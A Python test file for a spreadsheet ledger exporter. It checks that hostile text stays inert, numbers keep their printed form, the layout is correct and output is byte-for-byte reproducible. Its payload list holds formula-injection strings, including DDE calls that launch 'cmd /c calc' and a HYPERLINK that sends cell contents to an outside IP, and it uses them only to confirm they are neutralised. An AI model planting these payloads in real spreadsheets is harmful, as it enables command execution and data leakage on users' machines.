"""The workbook: text stays text, figures stay the figures printed, the same content gives the same bytes."""

import io
import random
import re
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from plans.reporting.ledger import ledger_content
from plans.reporting.xlsx import LONGEST, sheet_title, write_ledger
from tests.reporting.issues import body, header

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "'="]
PAYLOADS = [
    "1+1",
    "cmd|'/c calc'!A0",
    'HYPERLINK("http://198.51.100.1/?"&A1,"点此")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("//x",A1))',
    "新增20家",
    "20",
    "-3.5%",
    "\u202e=1+1",
    "\U0001f33e",
    "_x000D_",
    "]]>&<a/>",
]


def workbook(*bodies, language="zh-hans", **given):
    return write_ledger(ledger_content(header=header(*bodies, **given), bodies=bodies, language=language))


def sheets(data):
    return load_workbook(io.BytesIO(data)).worksheets


def parts(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def formulas(data):
    """Live formulas of any sheet, and whatever else reaches outside the file."""
    found = []
    for name, part in parts(data).items():
        if name.startswith("xl/worksheets/"):
            found += re.findall(rb"<f[ >].*?</f>|<f/>|<hyperlink|<ddeLink|<oleLink", part)
        if "externalLink" in name or "connections" in name:
            found.append(name.encode())
    return found


def hostile(dice):
    return dice.choice(STARTS) + dice.choice(PAYLOADS) + dice.choice(["", "\n=2", "\x00", "\ud800", "\ufffe"])


def hostile_body(text, code="1.1.1"):
    """Every text of a body that people can choose."""
    one = body(code, title=text, progress=text, problems=text, next_measures=text)
    one["passages"][0]["text"] = one["lead"]["name"] = one["cooperating"][0]["name"] = text
    one["targets"][0] |= {"name": text, "unit": text}
    one["milestones"][0]["title"] = one["area"]["title"] = one["area"]["marker"] = text
    one["reason"] = {"code": "x", "zh": text, "en": text}
    return one


def test_no_hostile_text_becomes_a_formula(full):
    dice, wanted, tried = random.Random(20312), 5000 if full else 200, 0
    while tried < wanted:
        texts = [hostile(dice) for _ in range(20)]
        bodies = [hostile_body(text, f"1.1.{number}") for number, text in enumerate(texts)]
        data = workbook(*bodies, title=texts[0], note=texts[1])
        assert formulas(data) == []
        tried += len(texts)
    assert tried >= wanted


def test_openpyxl_left_to_itself_would_write_a_formula():
    """The negative control of the check above."""
    book, raw = Workbook(), io.BytesIO()
    book.active["A1"] = "=1+1"
    book.save(raw)
    assert len(formulas(raw.getvalue())) == 1


@settings(deadline=None)  # a busy machine is no fault of the text
@given(st.text(max_size=40))
def test_any_text_is_kept_as_text(text):
    data = workbook(body(progress=text))
    assert formulas(data) == []
    kept = column(sheets(data)[0], "本期进展")[0]
    clean = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "", text)
    assert (kept or "").replace("\r", "\n") == clean.replace("\r\n", "\n").replace("\r", "\n")


def head_row(sheet):
    return next(row for row in range(1, 12) if sheet.cell(row, 1).value == "序号")


def column(sheet, title):
    head = head_row(sheet)
    number = next(n for n in range(1, 16) if sheet.cell(head, n).value == title)
    return [sheet.cell(row, number).value for row in range(head + 1, sheet.max_row + 1)]


def cell_of(sheet, title):
    head = head_row(sheet)
    return sheet.cell(head + 1, next(n for n in range(1, 16) if sheet.cell(head, n).value == title))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "＝"])
def test_what_looks_like_a_formula_is_a_quoted_string(start):
    cell = cell_of(sheets(workbook(body(progress=start + "1")))[0], "本期进展")
    assert (cell.data_type, cell.quotePrefix, cell.value.strip("\t")) == ("s", True, (start + "1").strip("\t"))


def test_an_ordinary_text_is_not_quoted():
    assert cell_of(sheets(workbook(body()))[0], "本期进展").quotePrefix is False


def test_figures_are_numbers_written_as_they_were_printed():
    printed = ["55.00", "0.00", "-11.67", "128.00", "9999999999.99"]
    bodies = [
        body(f"1.1.{number}", completion_percent=text, gap_points=text) for number, text in enumerate(printed, start=1)
    ]
    data = workbook(*bodies)
    sheet = sheets(data)[0]
    assert [Decimal(str(value)) for value in column(sheet, "完成率（%）")] == [Decimal(text) for text in printed]
    raw = parts(data)["xl/worksheets/sheet1.xml"].decode()
    assert [raw.count(f"<v>{text}</v>") for text in printed] == [2] * len(printed)
    assert cell_of(sheet, "快慢（百分点）").number_format == "0.00"


def test_a_figure_that_cannot_be_said_is_no_number():
    cell = cell_of(sheets(workbook(body(completion_percent=None)))[0], "完成率（%）")
    assert (cell.data_type, cell.value) == ("s", "—")


def test_the_sheet_is_laid_out_for_reading_and_printing():
    data = workbook(body(), body("1.1.2"), is_demo=True)
    sheet = sheets(data)[0]
    assert (sheet.title, sheet.freeze_panes, sheet.auto_filter.ref) == ("第3期台账", "A6", "A5:O7")
    assert sheet.print_title_rows == "$5:$5"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert sheet.oddFooter.center.text == "— &P —"
    assert sorted(str(merged) for merged in sheet.merged_cells.ranges) == ["A1:O1", "A2:O2", "A3:O3", "A4:O4"]
    assert cell_of(sheet, "本期进展").alignment.wrap_text is True


def test_a_second_sheet_explains_the_columns():
    table, meanings = sheets(workbook(body()))
    head = head_row(table)
    titles = [table.cell(head, number).value for number in range(1, 16)]
    assert meanings.title == "填表说明"
    assert [meanings.cell(row, 1).value for row in range(1, 16)] == titles
    assert meanings.max_column == 2


def test_no_person_and_no_clock_is_in_the_file():
    core = parts(workbook(body()))["docProps/core.xml"].decode()
    assert re.findall("<dc:creator>(.*?)</dc:creator>|<dc:creator ?/>", core) in ([""], [])
    assert "lastModifiedBy" not in core
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[0-9:]+Z", core)) == {"2031-10-09T01:30:00Z"}


def test_the_same_content_gives_the_same_bytes(time_machine):
    time_machine.move_to("2032-01-01")
    first = workbook(body(), body("1.1.2"))
    time_machine.move_to("2033-06-01")
    assert workbook(body(), body("1.1.2")) == first
    assert workbook(body(), body("1.1.3")) != first


def test_an_empty_issue_and_a_withheld_row_can_be_written():
    assert sheets(workbook())[0].auto_filter.ref == "A4:O4"
    one = body()
    ledger = ledger_content(header=header(one, body("1.1.2")), bodies=[one], language="zh-hans")
    sheet = sheets(write_ledger(ledger))[0]
    assert column(sheet, "备注")[1] == "内容已按规定撤下。"
    assert column(sheet, "序号")[2] == "本期有1项内容已按规定撤下（1.1.2），不计入上述合计。"


def test_a_text_longer_than_a_cell_is_cut_with_a_mark():
    kept = column(sheets(workbook(body(progress="长" * (LONGEST + 9))))[0], "本期进展")[0]
    assert (len(kept), kept[-2:]) == (LONGEST, "长…")


def test_rows_grow_with_their_text_up_to_the_limit_of_the_program():
    sheet = sheets(workbook(body(progress="长" * 60), body("1.1.2", progress="长" * 9000)))[0]
    head = head_row(sheet)
    short, long = (sheet.row_dimensions[head + number].height for number in (1, 2))
    assert (short < long, long) == (True, 409)


@pytest.mark.parametrize(
    ("text", "title"),
    [
        ("第3期台账", "第3期台账"),
        ("a[b]:c*?/\\d", "a b  c    d"),
        ("长" * 40, "长" * 31),
        ("'quoted'", "quoted"),
        ("", "Sheet"),
        ("???", "Sheet"),
    ],
)
def test_the_name_of_a_sheet_is_one_excel_takes(text, title):
    assert sheet_title(text) == title
